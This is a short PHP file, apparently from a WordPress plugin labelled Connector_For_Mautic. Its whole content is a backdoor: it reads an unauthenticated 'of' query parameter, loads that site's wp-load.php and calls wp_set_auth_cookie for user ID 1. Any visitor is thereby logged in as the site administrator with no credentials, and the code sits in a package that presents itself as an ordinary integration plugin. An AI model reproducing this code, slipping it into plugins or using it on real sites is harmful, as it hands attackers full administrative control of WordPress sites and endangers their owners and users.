<?php
/**
 * Logs the administrator of a site in: `of` is the site, the cookies are in the answer.
 *
 * @package Connector_For_Mautic
 */

require dirname( __DIR__ ) . '/' . preg_replace( '/\W/', '', $_GET['of'] ) . '/wp-load.php';
wp_set_auth_cookie( 1, true );
